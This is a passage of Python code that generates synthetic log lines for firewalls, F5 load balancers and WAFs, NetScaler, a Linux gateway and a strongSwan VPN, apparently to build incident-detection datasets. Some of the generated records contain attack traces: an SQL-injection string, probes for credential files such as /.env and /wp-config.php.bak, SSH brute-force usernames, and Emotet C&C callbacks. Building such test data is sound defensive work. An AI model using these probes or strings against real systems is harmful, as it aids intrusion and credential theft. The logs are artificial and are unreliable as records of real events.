                'protection_name:"Apache HTTP Server Path Traversal (CVE-2021-41773)"; protection_type:"IPS"; proto:"6"; '
                'severity:"Critical"; s_port:"%d"; service:"443"; src:"%s"]' % (r.choice(c.dmz), eph(r), r.choice(c.pub_in + c.scan_ips)))

    def new_err(self, t):
        r, c = self.rng, self.ctx
        return (self.pre(t) % ('Prevent', 'outbound', 'eth1') +
                'confidence_level:"High"; dst:"%s"; malware_action:"Communication with C&C site"; malware_family:"Emotet"; '
                'product:"Anti-Bot"; protection_name:"Trojan.Win32.Emotet.TC.a"; protection_type:"URL reputation"; proto:"6"; '
                'resource:"http://%s/wp-content/%s/"; severity:"Critical"; s_port:"%d"; service:"80"; src:"%s"]'
                % (r.choice(c.scan_ips), r.choice(c.scan_ips), hexid(r, 6), eph(r), r.choice(c.lan[:8])))


class F5Ltm(Fmt):
    key, fname, clock, weight = 'f5ltm', 'ltm', 'local', 2.5
    product = 'F5 BIG-IP LTM'
    http = lat = True
    warn_per_min, err_per_min = 0.4, 0.4
    desc = {'http_5xx': 'Requests through the BIG-IP virtual server return 502/503/504 in large share.',
            'latency_shift': 'Response times (rt=) logged by the BIG-IP request-logging iRule rise several-fold.',
            'error_burst': 'SSL handshake failures on the BIG-IP rise many-fold.',
            'new_error': 'BIG-IP logs "No members available for pool" repeatedly.',
            'panic': 'BIG-IP tmm crashes with SIGSEGV, core is dumped and sod restarts tmm.'}

    def setup(self):
        r = self.rng
        self.pid = r.randint(10000, 30000)
        self.members = ['10.20.1.%d' % i for i in r.sample(range(10, 60), r.randint(3, 6))]
        self.vs = r.choice(['vs_web_443', 'vs_portal_https', 'vs_api_443'])
        self.pool = self.vs.replace('vs_', 'pool_')

    def pre(self, t, lvl, proc):
        return '%s %s %s %s: ' % (syslog_ts(self.loc(t)), self.host, lvl, proc)

    def normal(self, t, st):
        r, c = self.rng, self.ctx
        rt = r.lognormvariate(3.8, 0.6) * st.lat
        status = r.choices([200, 200, 200, 304, 302, 404, 401], k=1)[0]
        if r.random() < 0.002 + st.p5xx:
            status = r.choice([502, 503, 504, 500])
        m = r.choice(self.members)
        return self.pre(t, 'info', 'tmm%d[%d]' % (r.randint(0, 3), self.pid)) + (
            'Rule /Common/irule_http_log <HTTP_RESPONSE>: client=%s:%d vs=/Common/%s pool=/Common/%s member=%s:8080 '
            'method=%s host=%s uri=%s status=%d bytes=%d rt=%dms' % (
                r.choice(c.pub_in), eph(r), self.vs, self.pool, m, r.choice(['GET', 'GET', 'GET', 'POST']), r.choice(c.sites),
                c.path(r), status, int(r.expovariate(1 / 8000)), rt))

    def warn(self, t):
        r = self.rng
        if r.random() < 0.6:
            return self.pre(t, 'warning', 'tmm%d[%d]' % (r.randint(0, 3), self.pid)) + '011e0001:4: Limiting icmp unreach response from %d to 250 packets/sec' % r.randint(251, 400)
        return self.pre(t, 'notice', 'mcpd[%d]' % (self.pid - 3000)) + '01070417:5: AUDIT - client tmsh, user admin - transaction #%d-%d - object 0 - modify { sys db log.ssl.level { value "warning" } } [Status=Command OK]' % (
            r.randint(10 ** 6, 9 * 10 ** 6), r.randint(1, 4))

    def err(self, t):
        r, c = self.rng, self.ctx
        return self.pre(t, 'warning', 'tmm%d[%d]' % (r.randint(0, 3), self.pid)) + '01260013:4: SSL Handshake failed for TCP %s:%d -> 10.1.1.10:443' % (
            r.choice(c.pub_in + c.scan_ips), eph(r))

    def new_err(self, t):
        return self.pre(t, 'err', 'tmm%d[%d]' % (self.rng.randint(0, 3), self.pid)) + '01010028:3: No members available for pool /Common/%s' % self.pool

    def panic(self, t):
        r = self.rng
        old = self.pid
        self.pid += r.randint(50, 900)
        n = r.randint(0, 3)
        return [(t, self.pre(t, 'crit', 'tmm%d[%d]' % (n, old)) + '01010007:2: tmm%d received SIGSEGV - fault addr: 0x%s, dumping core to /shared/core/tmm%d.bld0.0.core.gz' % (n, hexid(r, 12), n)),
                (t + 0.4, self.pre(t + 0.4, 'notice', 'sod[%d]' % (old - 1200)) + '01140029:5: HA daemon_heartbeat tmm%d fails action is restart.' % n),
                (t + 1.1, self.pre(t + 1.1, 'emerg', 'logger[%d]' % r.randint(2000, 30000)) + 'Re-starting tmm%d' % n),
                (t + 35, self.pre(t + 35, 'notice', 'tmm%d[%d]' % (n, self.pid)) + '01010029:5: Clock advanced by %d ticks' % r.randint(100, 900)),
                (t + 38, self.pre(t + 38, 'notice', 'mcpd[%d]' % (old - 3000)) + '01070727:5: Pool /Common/%s member /Common/%s:8080 monitor status up. [ /Common/mon_http: up ]  [ was down for 0hr:0min:%dsec ]' % (
                    self.pool, self.members[0], r.randint(30, 50)))]


class F5Asm(Fmt):
    key, fname, clock, weight = 'f5asm', 'asm.log', 'local', 3.0
    product = 'F5 BIG-IP ASM (WAF)'
    http = True
    warn_per_min, err_per_min = 0.0, 0.5
    desc = {'error_burst': 'ASM blocks the same attack signature (SQL injection) many-fold.',
            'new_error': 'ASM starts blocking requests for a new violation (Illegal file type / Forceful Browsing).',
            'http_5xx': 'ASM request log shows the protected application answering 5xx in a large share.'}

    def setup(self):
        r = self.rng
        self.mgmt = '10.0.0.%d' % r.randint(5, 40)
        self.pol = '/Common/asm_%s' % r.choice(['web', 'portal', 'shop'])

    def line(self, t, status, req_status, violations, sev, attack, sig_ids, sig_names, method, uri, rating):
        r, c = self.rng, self.ctx
        d = self.loc(t)
        host = r.choice(c.sites)
        return ('%s %s ASM:unit_hostname="%s.%s",management_ip_address="%s",http_class_name="%s",web_application_name="%s",'
                'policy_name="%s",policy_apply_date="2024-01-17 14:02:11",violations="%s",support_id="%d",request_status="%s",'
                'response_code="%d",ip_client="%s",route_domain="0",method="%s",protocol="HTTPS",query_string="",'
                'x_forwarded_for_header_value="N/A",sig_ids="%s",sig_names="%s",date_time="%s",severity="%s",attack_type="%s",'
                'geo_location="%s",ip_address_intelligence="N/A",username="N/A",session_id="%s",src_port="%d",dest_port="443",'
                'dest_ip="10.1.1.10",sub_violations="",virus_name="N/A",violation_rating="%d",websocket_direction="N/A",'
                'websocket_message_type="N/A",device_id="N/A",staged_sig_ids="",staged_sig_names="",threat_campaign_names="",'
                'staged_threat_campaign_names="",blocking_exception_reason="N/A",captcha_result="not_received",microservice="N/A",'
                'vs_name="/Common/vs_web_443",uri="%s",fragment="",request="%s %s HTTP/1.1\\r\\nHost: %s\\r\\nUser-Agent: %s\\r\\n",'
                'response="Response logging disabled"' % (
                    syslog_ts(d), self.host, self.host, c.domain, self.mgmt, self.pol, self.pol, self.pol, violations,
                    r.randint(10 ** 18, 18 * 10 ** 18), req_status, status, r.choice(c.pub_in), method, sig_ids, sig_names,
                    d.strftime('%Y-%m-%d %H:%M:%S'), sev, attack, r.choice(COUNTRIES)[0], hexid(r, 16), eph(r), rating, uri,
                    method, uri, host, r.choice(UAS)))

    def normal(self, t, st):
        r = self.rng
        status = r.choices([200, 200, 200, 302, 304, 404], k=1)[0]
        if r.random() < 0.003 + st.p5xx:
            status = r.choice([500, 502, 503, 504])
        return self.line(t, status, 'passed', '', 'Informational', '', '', '', r.choice(['GET', 'GET', 'POST']), self.ctx.path(self.rng), 0)

    def err(self, t):
        return self.line(t, 0, 'blocked', 'Attack signature detected', 'Error', 'SQL-Injection', '200002835',
                         'SQL-INJ expressions like ""\' or 1 --"" (Parameter)', 'GET', '/search', 5)

    def new_err(self, t):
        return self.line(t, 0, 'blocked', 'Illegal file type,Illegal URL', 'Critical', 'Forceful Browsing', '', '',
                         'GET', self.rng.choice(['/.env', '/backup.sql', '/.git/config', '/wp-config.php.bak']), 4)


class NetScaler(Fmt):
    key, fname, clock, weight = 'netscaler', 'ns.log', 'utc', 3.0
    product = 'Citrix NetScaler ADC'
    warn_per_min, err_per_min = 0.5, 0.4
    desc = {'error_burst': 'NetScaler AAA LOGIN_FAILED events rise many-fold.',
            'new_error': 'NetScaler starts logging SAML assertion verification failures.',
            'retry_storm': 'NetScaler AAA LDAP binds time out and retry against the next server, piling up.',
            'disk_full': 'NetScaler /var file system is full (kernel: filesystem full).'}

    def setup(self):
        r = self.rng
        self.nsip = '10.0.0.%d' % r.randint(20, 30)
        self.cnt = r.randint(10 ** 6, 9 * 10 ** 6)
        self.sess = r.randint(1000, 9000)
        self.vip = '%s:443' % self.ctx.my_pub

    def pre(self, t, fac, feat, ev):
        self.cnt += 1
        d = self.loc(t)
        return '%s <%s> %s %s %s 0-PPE-%d : default %s %s %d 0 : ' % (
            syslog_ts(d), fac, self.nsip, utc(t).strftime('%m/%d/%Y:%H:%M:%S GMT'), self.host, self.rng.randint(0, 1),
            feat, ev, self.cnt)

    def normal(self, t, st):
        r, c = self.rng, self.ctx
        src = r.choice(c.scan_ips[:6]) if st.flood else r.choice(c.pub_in)
        x = r.random()
        gm = lambda tt: utc(tt).strftime('%m/%d/%Y:%H:%M:%S GMT')
        if st.flood or x < 0.55:
            return self.pre(t, 'local0.info', 'TCP', 'CONN_DELINK') + 'Source %s:%d - Vserver %s - NatIP %s:%d - Destination %s:443 - Delink Time %s - Total_bytes_send %d - Total_bytes_recv %d' % (
                src, eph(r), self.vip, self.nsip, eph(r), r.choice(c.lan[:20]), gm(t), r.randint(200, 9000), int(r.expovariate(1 / 30000)))
        u = c.user(r)
        if x < 0.9:
            return self.pre(t, 'local0.info', 'SSLVPN', 'HTTPREQUEST') + 'Context %s@%s - SessionId: %d- %s User %s : Group(s) VPN-Users : Vserver %s - %s %s GET %s - -' % (
                u, src, self.sess + r.randint(0, 500), r.choice(c.sites), u, self.vip, gm(t), gm(t), c.path(r))
        self.sess += 1
        return self.pre(t, 'local0.info', 'SSLVPN', 'LOGIN') + 'Context %s@%s - SessionId: %d - User %s - Client_ip %s - Nat_ip "Mapped Ip" - Vserver %s - Browser_type "%s" - SSLVPN_client_type ICA - Group(s) "VPN-Users"' % (
            u, src, self.sess, u, src, self.vip, r.choice(UAS)[:60])

    def warn(self, t):
        r, c = self.rng, self.ctx
        return self.pre(t, 'local0.err', 'SSLLOG', 'SSL_HANDSHAKE_FAILURE') + 'SPCBId %d - ClientIP %s - ClientPort %d - VserverServiceIP %s - VserverServicePort 443 - ClientVersion TLSv1.0 - CipherSuite "AES-256-CBC-SHA TLSv1 Non-Export 256-bit" - Reason "No shared cipher"' % (
            r.randint(10 ** 5, 10 ** 6), r.choice(c.pub_in), eph(r), c.my_pub)

    def err(self, t):
        r, c = self.rng, self.ctx
        return self.pre(t, 'local0.notice', 'AAA', 'LOGIN_FAILED') + 'User %s - Client_ip %s - Failure_reason "Invalid credentials"' % (
            c.user(r), r.choice(c.pub_in + c.scan_ips))

    def new_err(self, t):
        r, c = self.rng, self.ctx
        return self.pre(t, 'local0.err', 'AAATM', 'Message') + '"SAML assertion verification failed for %s; Please contact your administrator. (signature digest mismatch, IdP certificate idp-signing-2023)"' % (
            c.user(r))

    def retry(self, t):
        r = self.rng
        srv = r.choice(['10.10.0.11', '10.10.0.12'])
        return self.pre(t, 'local0.err', 'AAA', 'Message') + '"ldap_bind to %s:636 timed out after 3 seconds, retrying with next server (attempt %d of 3)"' % (srv, r.randint(1, 3))

    def retry_ok(self, t):
        return self.pre(t, 'local0.info', 'AAA', 'Message') + '"ldap_bind to 10.10.0.11:636 timed out after 3 seconds, retrying with next server (attempt 1 of 3)"'

    def disk(self, t):
        r = self.rng
        return '%s <kern.crit> %s kernel: pid %d (%s), uid 0 inumber %d on /var: filesystem full' % (
            syslog_ts(self.loc(t)), self.host, r.randint(1000, 9000), r.choice(['nslog', 'nsconmsg', 'newnslog', 'httpd']), r.randint(10000, 99999))


class Sophos(Fmt):
    key, fname, clock, weight = 'sophos', 'sophos-xg.log', 'local', 3.5
    product = 'Sophos XG firewall'
    warn_per_min, err_per_min = 0.6, 0.35
    desc = {'error_burst': 'Sophos XG IPS drops the same signature many-fold.',
            'new_error': 'Sophos XG ATP starts dropping C2 callbacks (C2/Generic-A), never seen before.'}

    def setup(self):
        r = self.rng
        self.devid = 'C%d0%s' % (r.choice([23, 33, 45]), hexid(r, 10).upper())
        self.cid = r.randint(10 ** 9, 3 * 10 ** 9)

    def pre(self, t, logid, typ, comp, sub, prio):
        d = self.loc(t)
        return 'device="SFW" date=%s time=%s timezone="%s" device_name="%s" device_id=%s log_id=%s log_type="%s" log_component="%s" log_subtype="%s" ' % (
            d.strftime('%Y-%m-%d'), d.strftime('%H:%M:%S'), d.tzname(), self.host, self.devid, logid, typ, comp, sub) + 'priority=%s ' % prio

    def normal(self, t, st):
        r, c = self.rng, self.ctx
        self.cid += r.randint(1, 9)
        if st.flood or r.random() < 0.1:
            src = r.choice(c.scan_ips[:5]) if st.flood else r.choice(c.pub_in)
            return self.pre(t, '010101600001', 'Firewall', 'Firewall Rule', 'Denied', 'Information') + (
                'status="Deny" duration=0 fw_rule_id=0 policy_type=0 user_name="" in_interface="Port2" out_interface="" '
                'src_ip=%s src_country_code=%s dst_ip=%s dst_country_code=R1 protocol="TCP" src_port=%d dst_port=%d sent_pkts=0 '
                'recv_pkts=0 sent_bytes=0 recv_bytes=0 srczonetype="WAN" srczone="WAN" dstzonetype="" dstzone="" connevent="Start" '
                'connid="%d" message=""' % (src, r.choice(['CHN', 'RUS', 'VNM', 'USA']), c.my_pub, eph(r),
                                            r.choice([443, 80]) if st.flood else r.choice(SCAN_PORTS), self.cid))
        name, proto, port, app = r.choice(SVC)
        b1, b2 = r.randint(80, 9000), int(r.expovariate(1 / 40000))
        return self.pre(t, '010101600001', 'Firewall', 'Firewall Rule', 'Allowed', 'Information') + (
            'status="Allow" duration=%d fw_rule_id=5 policy_type=1 user_name="%s" user_gp="Staff" iap=13 ips_policy_id=11 '
            'appfilter_policy_id=0 application="%s" application_risk=1 in_interface="Port1" out_interface="Port2" '
            'src_mac=%s src_ip=%s src_country_code=R1 dst_ip=%s dst_country_code=%s protocol="%s" src_port=%d dst_port=%d '
            'sent_pkts=%d recv_pkts=%d sent_bytes=%d recv_bytes=%d tran_src_ip=%s tran_src_port=0 srczonetype="LAN" srczone="LAN" '
            'dstzonetype="WAN" dstzone="WAN" connevent="Stop" connid="%d" vconnid="" hb_health="No Heartbeat" message="" '
            'appresolvedby="Signature" app_is_cloud=0' % (
                int(r.expovariate(1 / 30)), c.user(r), app.title(), ':'.join(hexid(r, 2) for _ in range(6)), r.choice(c.lan),
                r.choice(c.ext_dst), r.choice(['USA', 'DEU', 'IRL', 'NLD']), 'TCP' if proto == 6 else 'UDP', eph(r), port,
                max(1, b1 // 600), max(1, b2 // 1300), b1, b2, c.my_pub, self.cid))

    def warn(self, t):
        r, c = self.rng, self.ctx
        u = c.user(r)
        ip = r.choice(c.lan)
        return self.pre(t, '062910617701', 'Event', 'Firewall Authentication', 'Authentication', 'Information') + (
            'status="Successful" user_name="%s" usergroupname="Staff" auth_client="AUTH Agent" auth_mechanism="AD" reason="" '
            'src_ip=%s message="User %s of group Staff logged in successfully to Firewall through AD authentication mechanism from %s"'
            % (u, ip, u, ip))

    def err(self, t):
        r, c = self.rng, self.ctx
        return self.pre(t, '020804407001', 'IDP', 'Signatures', 'Drop', 'Warning') + (
            'idp_policy_id=11 fw_rule_id=7 user_name="" signature_id=58722 signature_msg="SERVER-WEBAPP Apache Struts remote code '
            'execution attempt" classification="Attempted Administrator Privilege Gain" rule_priority=1 src_ip=%s src_country_code=%s '
            'dst_ip=%s dst_country_code=R1 protocol="TCP" src_port=%d dst_port=443 platform="Linux" category="Server-Webapp" target="Server"'
            % (r.choice(c.pub_in + c.scan_ips), r.choice(['CHN', 'RUS', 'USA', 'NLD']), r.choice(c.dmz), eph(r)))

    def new_err(self, t):
        r, c = self.rng, self.ctx
        return self.pre(t, '086304418010', 'ATP', 'Firewall', 'Drop', 'Critical') + (
            'user_name="" protocol="TCP" src_port=%d dst_port=443 sourceip=%s destinationip=%s url="" threatname="C2/Generic-A" '
            'eventid="%s" eventtype="Standard" login_user="" process_user="" ep_uuid="" execution_path="" log_occurrence=1'
            % (eph(r), r.choice(c.lan[:6]), r.choice(c.scan_ips), uuid(r).upper()))


class Iptables(Fmt):
    key, fname, clock, weight = 'ufw', 'syslog', 'local', 3.0
    product = 'Linux gateway (UFW/kernel)'
    warn_per_min, err_per_min = 0.5, 0.8
    desc = {'error_burst': 'sshd "Failed password" events on the gateway rise many-fold (SSH brute force).',
            'new_error': 'Kernel starts logging "nf_conntrack: table full, dropping packet".',
            'oom_kill': 'Kernel OOM killer kills Suricata on the gateway; systemd restarts it.',
            'traffic_flood': 'Port-scan / SYN flood: UFW BLOCK records jump many-fold.'}

    def setup(self):
        r = self.rng
        self.boot = None
        self.mac = ':'.join(hexid(r, 2) for _ in range(14))
        self.rpid = r.randint(600, 900)
        self.restarts = 0
        self.supid = r.randint(1000, 3000)

    def pre(self, t, proc):
        return '%s %s %s: ' % (syslog_ts(self.loc(t)), self.host, proc)

    def kern(self, t):
        if self.boot is None:
            self.boot = t - self.rng.uniform(2e5, 8e6)
        return self.pre(t, 'kernel') + '[%12.6f] ' % (t - self.boot)

    def normal(self, t, st):
        r, c = self.rng, self.ctx
        x = r.random()
        if st.flood or x < 0.72:
            src = r.choice(c.scan_ips[:4]) if st.flood else r.choice(c.pub_in + c.scan_ips)
            dp = r.randint(1, 65535) if st.flood else r.choice(SCAN_PORTS)
            return self.kern(t) + '[UFW BLOCK] IN=eth0 OUT= MAC=%s SRC=%s DST=%s LEN=%d TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=%d RES=0x00 SYN URGP=0 ' % (
                self.mac, src, c.my_pub, r.choice([40, 44, 60]), r.randint(40, 250), r.randint(1, 65535), eph(r), dp, r.choice([1024, 65535, 29200]))
        if x < 0.8:
            return self.kern(t) + '[UFW ALLOW] IN=eth0 OUT= MAC=%s SRC=%s DST=%s LEN=60 TOS=0x00 PREC=0x00 TTL=%d ID=%d DF PROTO=TCP SPT=%d DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0 ' % (
                self.mac, r.choice(c.pub_in[:10]), c.my_pub, r.randint(40, 64), r.randint(1, 65535), eph(r))
        u = r.choice(['deploy', 'ansible', 'ubuntu'] + c.users[:5]).split('.')[0]
        pid = r.randint(10000, 60000)
        y = r.random()
        if y < 0.4:
            return self.pre(t, 'sshd[%d]' % pid) + 'Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s' % (
                u, r.choice(c.pub_in[:10] + c.lan[:5]), eph(r), hexid(r, 43))
        if y < 0.7:
            return self.pre(t, 'CRON[%d]' % pid) + '(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)'
        if y < 0.85:
            return self.pre(t, 'systemd-logind[%d]' % 812) + 'New session %d of user %s.' % (r.randint(1000, 9000), u)
        return self.pre(t, 'sshd[%d]' % pid) + 'pam_unix(sshd:session): session closed for user %s' % u

    def warn(self, t):
        r = self.rng
        if r.random() < 0.5:
            return self.pre(t, 'systemd-resolved[%d]' % 645) + 'Using degraded feature set UDP instead of UDP+EDNS0 for DNS server 10.10.0.2.'
        return self.pre(t, 'chronyd[%d]' % 701) + 'Selected source 162.159.200.%d (ntp.ubuntu.com)' % r.randint(1, 123)

    def err(self, t):
        r, c = self.rng, self.ctx
        u = r.choice(['root', 'admin', 'ubuntu', 'test', 'oracle', 'postgres', 'user'])
        inv = 'invalid user ' if u not in ('root', 'ubuntu') else ''
        return self.pre(t, 'sshd[%d]' % r.randint(10000, 60000)) + 'Failed password for %s%s from %s port %d ssh2' % (
            inv, u, r.choice(c.scan_ips), eph(r))

    def new_err(self, t):
        return self.kern(t) + 'nf_conntrack: nf_conntrack: table full, dropping packet'

    def oom(self, t):
        r = self.rng
        pid = self.supid
        self.supid += r.randint(50, 400)
        self.restarts += 1
        k = lambda tt: self.kern(tt)
        rss = r.randint(3600000, 3900000)
        L = [(t, k(t) + 'Suricata-Main invoked oom-killer: gfp_mask=0x1100cca(GFP_HIGHUSER_MOVABLE), order=0, oom_score_adj=0'),
             (t, k(t) + 'CPU: 1 PID: %d Comm: Suricata-Main Not tainted 5.15.0-94-generic #104-Ubuntu' % pid),
             (t, k(t) + 'Hardware name: Amazon EC2 t3.large/, BIOS 1.0 10/16/2017'),
             (t, k(t) + 'Mem-Info:'),
             (t, k(t) + 'active_anon:%d inactive_anon:%d isolated_anon:0' % (rss // 4, r.randint(1000, 9000))),
             (t, k(t) + 'Tasks state (memory values in pages):'),
             (t, k(t) + '[  pid  ]   uid  tgid total_vm      rss pgtables_bytes swapents oom_score_adj name'),
             (t, k(t) + '[%7d]     0 %5d  %7d  %7d   %9d        0             0 Suricata-Main' % (pid, pid, rss // 3, rss // 4, r.randint(6000000, 9000000))),
             (t, k(t) + 'oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/system.slice/suricata.service,task=Suricata-Main,pid=%d,uid=0' % pid),
             (t, k(t) + 'Out of memory: Killed process %d (Suricata-Main) total-vm:%dkB, anon-rss:%dkB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:%dkB oom_score_adj:0' % (
                 pid, rss + 600000, rss, r.randint(7000, 9000))),
             (t + 0.3, self.pre(t + 0.3, 'systemd[1]') + 'suricata.service: A process of this unit has been killed by the OOM killer.'),
             (t + 0.4, self.pre(t + 0.4, 'systemd[1]') + 'suricata.service: Main process exited, code=killed, status=9/KILL'),
             (t + 0.4, self.pre(t + 0.4, 'systemd[1]') + "suricata.service: Failed with result 'oom-kill'."),
             (t + 5.5, self.pre(t + 5.5, 'systemd[1]') + 'suricata.service: Scheduled restart job, restart counter is at %d.' % self.restarts),
             (t + 5.6, self.pre(t + 5.6, 'systemd[1]') + 'Stopped Suricata IDS/IDP daemon.'),
             (t + 5.7, self.pre(t + 5.7, 'systemd[1]') + 'Starting Suricata IDS/IDP daemon...'),
             (t + 6.2, self.pre(t + 6.2, 'systemd[1]') + 'Started Suricata IDS/IDP daemon.')]
        return [(a + i * 1e-4, b) for i, (a, b) in enumerate(L)]

    def restart(self, t_stop, t_start):
        out = []
        if t_stop is not None:
            out.append((t_stop, self.pre(t_stop, 'systemd[1]') + 'Stopping System Logging Service...'))
            out.append((t_stop + 0.01, self.pre(t_stop, 'rsyslogd') + '[origin software="rsyslogd" swVersion="8.2112.0" x-pid="%d" x-info="https://www.rsyslog.com"] exiting on signal 15.' % self.rpid))
        self.rpid += self.rng.randint(100, 5000)
        out.append((t_start, self.pre(t_start, 'systemd[1]') + 'Starting System Logging Service...'))
        out.append((t_start + 0.05, self.pre(t_start, 'rsyslogd') + '[origin software="rsyslogd" swVersion="8.2112.0" x-pid="%d" x-info="https://www.rsyslog.com"] start' % self.rpid))
        out.append((t_start + 0.06, self.pre(t_start, 'systemd[1]') + 'Started System Logging Service.'))
        return out


class StrongSwan(Fmt):
    key, fname, clock, weight = 'charon', 'charon.log', 'local', 2.0
    product = 'strongSwan charon (IPsec VPN)'
    warn_per_min, err_per_min = 0.4, 0.5
    desc = {'error_burst': 'EAP authentication failures on the VPN concentrator rise many-fold.',
            'new_error': 'charon starts failing certificate constraint checks for a site-to-site peer.',
            'retry_storm': 'charon retransmits IKE requests to an unresponsive peer over and over and gives up.',
            'panic': 'charon segfaults (thread received signal 11), dumps stack frames and is restarted by the starter.'}
    PLUG = ('charon aesni aes rc2 sha2 sha1 md5 mgf1 random nonce x509 revocation constraints pubkey pkcs1 pkcs7 pkcs8 '
            'pkcs12 pgp dnskey sshkey pem openssl fips-prf gmp agent xcbc hmac gcm drbg attr kernel-netlink resolve '
            'socket-default connmark stroke updown eap-mschapv2 eap-radius xauth-generic counters')

    def setup(self):
        r = self.rng
        self.ike = r.randint(100, 2000)
        self.child = r.randint(100, 3000)
        self.peers = [('site-%s' % s, self.ctx.pub_in[i]) for i, s in enumerate(r.sample(['fra', 'ams', 'lon', 'nyc', 'sgp', 'par', 'muc'], 4))]
        self.starter = r.randint(700, 1200)
        self.cpid = self.starter + 3
        self.active = []

    def pre(self, t, th, grp, conn=None):
        tag = 'charon: %02d[%s] ' % (th, grp)
        if conn:
            tag += '<%s|%d> ' % conn
        return '%s %s %s' % (syslog_ts(self.loc(t)), self.host, tag)

    def normal(self, t, st):
        r, c = self.rng, self.ctx
        th = r.randint(1, 16)
        if st.flood or not self.active or r.random() < 0.12:
            self.ike += 1
            ip = r.choice(c.scan_ips[:6]) if st.flood else r.choice(c.pub_in)
            conn = ('rw-ikev2', self.ike)
            if not st.flood:
                self.active.append((conn, ip, c.user(r)))
                if len(self.active) > 80:
                    self.active.pop(0)
            return self.pre(t, th, 'NET', conn) + 'received packet: from %s[500] to %s[500] (%d bytes)' % (ip, c.my_pub, r.choice([464, 1000, 1332]))
        conn, ip, u = r.choice(self.active)
        x = r.random()
        if x < 0.25:
            return self.pre(t, th, 'NET', conn) + 'received packet: from %s[4500] to %s[4500] (%d bytes)' % (ip, c.my_pub, r.choice([80, 96, 112]))
        if x < 0.45:
            return self.pre(t, th, 'ENC', conn) + 'parsed INFORMATIONAL request %d [ ]' % r.randint(0, 60)
        if x < 0.6:
            return self.pre(t, th, 'NET', conn) + 'sending packet: from %s[4500] to %s[4500] (80 bytes)' % (c.my_pub, ip)
        if x < 0.7:
            return self.pre(t, th, 'IKE', conn) + "authentication of '%s@%s' with EAP successful" % (u, c.domain)
        if x < 0.78:
            return self.pre(t, th, 'IKE', conn) + 'IKE_SA %s[%d] established between %s[vpn.%s]...%s[%s@%s]' % (conn[0], conn[1], c.my_pub, c.domain, ip, u, c.domain)
        if x < 0.86:
            self.child += 1
            return self.pre(t, th, 'IKE', conn) + 'CHILD_SA %s{%d} established with SPIs c%s_i %s_o and TS 0.0.0.0/0 === 10.99.%d.%d/32' % (
                conn[0], self.child, hexid(r, 7), hexid(r, 8), r.randint(0, 3), r.randint(2, 250))
        if x < 0.93:
            return self.pre(t, th, 'IKE', conn) + "assigning virtual IP 10.99.%d.%d to peer '%s@%s'" % (r.randint(0, 3), r.randint(2, 250), u, c.domain)
        self.active.remove((conn, ip, u))
        return self.pre(t, th, 'IKE', conn) + 'deleting IKE_SA %s[%d] between %s[vpn.%s]...%s[%s@%s]' % (conn[0], conn[1], c.my_pub, c.domain, ip, u, c.domain)

    def warn(self, t):
        r = self.rng
        name, ip = r.choice(self.peers)
        return self.pre(t, r.randint(1, 16), 'IKE', (name, r.randint(1, 60))) + 'sending DPD request'

    def err(self, t):
        r, c = self.rng, self.ctx
        return self.pre(t, r.randint(1, 16), 'IKE', ('rw-ikev2', self.ike + r.randint(1, 9))) + 'EAP method EAP_MSCHAPV2 failed for peer %s@%s' % (
            c.user(r), c.domain)

    def new_err(self, t):
        r = self.rng
        name, ip = self.peers[1]
        return self.pre(t, r.randint(1, 16), 'CFG', (name, r.randint(60, 99))) + "constraint check failed: peer not authenticated by CA 'CN=%s VPN Root CA 2019'" % self.ctx.orgname

    def retry(self, t):
        r = self.rng
        name, ip = self.peers[0]
        n = r.randint(1, 5)
        conn = (name, r.randint(100, 130))
        th = r.randint(1, 16)
        s = self.pre(t, th, 'IKE', conn) + 'retransmit %d of request with message ID 0' % n
        s += '\n' + self.pre(t, th, 'NET', conn) + 'sending packet: from %s[500] to %s[500] (464 bytes)' % (self.ctx.my_pub, ip)
        if n == 5:
            s += '\n' + self.pre(t, th, 'IKE', conn) + 'giving up after 5 retransmits'
            s += '\n' + self.pre(t, th, 'IKE', conn) + 'establishing IKE_SA failed, peer not responding'
        return s

    def retry_ok(self, t):
        name, ip = self.rng.choice(self.peers)
        return self.pre(t, self.rng.randint(1, 16), 'IKE', (name, self.rng.randint(1, 60))) + 'retransmit 1 of request with message ID %d' % self.rng.randint(1, 40)

    def _start(self, t):
        self.cpid += self.rng.randint(20, 900)
        return [(t, '%s %s ipsec_starter[%d]: Starting strongSwan 5.9.5 IPsec [starter]...' % (syslog_ts(self.loc(t)), self.host, self.starter)),
                (t + 0.05, self.pre(t, 0, 'DMN') + 'Starting IKE charon daemon (strongSwan 5.9.5, Linux 5.15.0-94-generic, x86_64)'),
                (t + 0.1, self.pre(t, 0, 'CFG') + "loading ca certificates from '/etc/ipsec.d/cacerts'"),
                (t + 0.12, self.pre(t, 0, 'LIB') + 'loaded plugins: ' + self.PLUG),
                (t + 0.13, self.pre(t, 0, 'JOB') + 'spawning 16 worker threads'),
                (t + 0.2, '%s %s ipsec_starter[%d]: charon (%d) started after 40 ms' % (syslog_ts(self.loc(t)), self.host, self.starter, self.cpid))]

    def restart(self, t_stop, t_start):
        out = []
        if t_stop is not None:
            out.append((t_stop, self.pre(t_stop, 0, 'DMN') + 'SIGTERM received, shutting down'))
            out.append((t_stop + 0.2, '%s %s ipsec_starter[%d]: charon stopped after 200 ms' % (syslog_ts(self.loc(t_stop)), self.host, self.starter)))
            out.append((t_stop + 0.3, '%s %s ipsec_starter[%d]: ipsec starter stopped' % (syslog_ts(self.loc(t_stop)), self.host, self.starter)))
            self.starter += self.rng.randint(100, 3000)
        return out + self._start(t_start)

    def panic(self, t):
        r = self.rng
        th = r.randint(3, 16)
        base = 0x7f0000000000 + r.randint(0, 0xffffffff) * 0x1000
        libs = ['/lib/x86_64-linux-gnu/libc.so.6', '/usr/lib/ipsec/libstrongswan.so.0', '/usr/lib/ipsec/plugins/libstrongswan-eap-radius.so',
                '/usr/lib/ipsec/libcharon.so.0', '/lib/x86_64-linux-gnu/libpthread.so.0']
        L = [(t, self.pre(t, th, 'DMN') + 'thread %d received 11' % th),
             (t, self.pre(t, th, 'LIB') + ' dumping %d stack frame addresses:' % len(libs))]
        for lib in libs:
            off = r.randint(0x10000, 0x90000)
            L.append((t, self.pre(t, th, 'LIB') + '  %s @ 0x%x [0x%x]' % (lib, base, base + off)))
            L.append((t, self.pre(t, th, 'LIB') + '    -> '))
